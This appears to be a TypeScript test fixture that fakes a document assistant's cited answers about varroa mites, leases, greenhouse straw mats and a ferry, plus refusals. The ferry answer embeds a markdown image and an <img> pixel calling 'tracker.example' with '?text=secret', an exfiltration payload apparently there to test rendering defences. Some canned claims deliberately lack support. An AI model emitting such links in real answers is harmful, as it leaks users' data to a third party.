/** Answers of the invented library: a few written ones, and sentences word for word for the rest. */
import { utf8Bytes } from "../../lib/utf8";
import type { Citation, Message, Origin, Passage, Sentence, Verdict } from "../../wire/generated";

interface Said {
	text: string;
	/** Part of a passage that the sentence rests on; null for none. */
	quote: string | null;
	/** What stands between this sentence and the next. */
	after?: string;
	plain?: boolean;
}

const WRITTEN: { asks: RegExp; says: Said[] }[] = [
	{
		asks: /varroa|mites/i,
		says: [
			{ text: "Treat against varroa **twice a year**.", quote: null, plain: true, after: "\n\n" },
			{
				text: "- The first treatment is in late July, directly after the last honey harvest.",
				quote: "Treat against varroa in late July, directly after the last honey harvest.",
				after: "\n",
			},
			{
				text: "- With formic acid, the hive must stay between 12 and 25 degrees for ten days.",
				quote: "With formic acid the hive must stay between 12 and 25 degrees for ten days.",
				after: "\n",
			},
			{
				text: "- A second treatment with oxalic acid follows in December, when there is no brood.",
				quote: "A second treatment with oxalic acid follows in December, when there is no brood.",
				after: "\n\n",
			},
			{ text: "Thymol works as well in most years.", quote: null },
			{
				text: "If more than ten mites a day fall before treatment, it cannot wait.",
				quote: "More than ten mites a day before treatment means that it cannot wait.",
			},
		],
	},
	{
		asks: /notice|lease|landlord/i,
		says: [
			{
				text: "You can end the lease with three months' notice to the end of a month.",
				quote: "The tenant may end the lease with three months' notice to the end of a month.",
			},
			{
				text: "It has to be given in writing; electronic mail is not enough.",
				quote: "Notice has to be given in writing; electronic mail is not enough.",
			},
			{
				text: "For the landlord the period is three months too, and six months once the lease has lasted longer than five years.",
				quote:
					"The landlord's notice period is three months, and six months once the lease has lasted longer than five years.",
			},
		],
	},
	{
		asks: /草帘|保温|夜间/,
		says: [
			{
				text: "夜间覆盖草帘，可使室内温度比室外高八到十度。",
				quote: "夜间覆盖草帘可使室内温度比室外高八到十度。",
				after: "",
			},
			{
				text: "草帘应在日落前半小时放下，日出后半小时卷起。",
				quote: "覆盖物应在日落前半小时放下，日出后半小时卷起。",
				after: "",
			},
			{ text: "一般还应每三年更换一次草帘。", quote: null, after: "" },
			{
				text: "后墙用夯土砌成，白天吸热，夜间放热。",
				quote: "后墙用三十厘米厚的夯土砌成，白天吸热，夜间放热。",
				after: "",
			},
		],
	},
	{
		asks: /ferry|island/i,
		says: [
			{ text: "The ferry leaves at 7:40 from pier 3.", quote: "leaves at 7:40 from pier 3." },
			{ text: "![map](http://tracker.example/leak.png?text=secret)", quote: null, plain: true },
			{
				text: "See [the timetable](https://ferries.example/times?from=docent) and <img src=http://tracker.example/pixel.png>.",
				quote: null,
			},
		],
	},
];

const REFUSAL = {
	en: "I found nothing in your documents that answers this.",
	zh: "您的文档中没有能回答这个问题的内容。",
};

const isChinese = (text: string) => /\p{Script=Han}/u.test(text);

/** The citation of the first passage that holds the quote. */
function cite(quote: string, passages: readonly Passage[], number: number): Citation | null {
	const passage = passages.find(({ text }) => text.includes(quote));
	const span = passage?.spans[0];
	if (!passage || !span) return null;
	const start = span.start + utf8Bytes(passage.text.slice(0, passage.text.indexOf(quote)));
	const { chunk, document, revision, title, path, headings, page, page_label, line, spot, member } = passage;
	return {
		number, chunk, document, revision, title, path, headings, page, page_label, line, spot, member, quote,
		span: { start, end: start + utf8Bytes(quote) },
	}; // biome-ignore format: fields in one line
}

/** The best sentences as they stand. */
function wordForWord(passages: readonly Passage[]): Said[] {
	return passages.slice(0, 2).map(({ text }) => {
		const sentence = /^[^.。]*[.。]/.exec(text)?.[0] ?? text;
		return { text: sentence, quote: sentence };
	});
}

export function answer(
	question: string,
	passages: Passage[],
	verdict: Verdict,
	hasModel: boolean,
	id: number,
): Message {
	const chinese = isChinese(question);
	const written = hasModel ? WRITTEN.find(({ asks }) => asks.test(question)) : undefined;
	const refused = verdict === "not_in_documents";
	const origin: Origin = refused ? "refusal" : written ? "model" : "extract";
	const says: Said[] = refused
		? [{ text: chinese ? REFUSAL.zh : REFUSAL.en, quote: null, plain: true }]
		: (written?.says ?? wordForWord(passages));

	let text = "";
	const sentences: Sentence[] = [];
	const citations: Citation[] = [];
	says.forEach((said, index) => {
		const start = text.length;
		text += said.text;
		const citation = said.quote === null ? null : cite(said.quote, passages, citations.length + 1);
		if (citation) citations.push(citation);
		sentences.push({
			at: { start, end: text.length },
			citations: citation ? [citation.number] : [],
			needs_support: said.plain !== true,
		});
		if (index < says.length - 1) text += said.after ?? (chinese ? "" : " ");
	});
	return {
		id,
		role: "assistant",
		text,
		sentences,
		citations,
		passages,
		verdict,
		origin,
		stopped: false,
		created_ms: Date.now(),
		first_word_ms: origin === "model" ? 840 : null,
		tokens_per_second: origin === "model" ? 21.4 : null,
	};
}
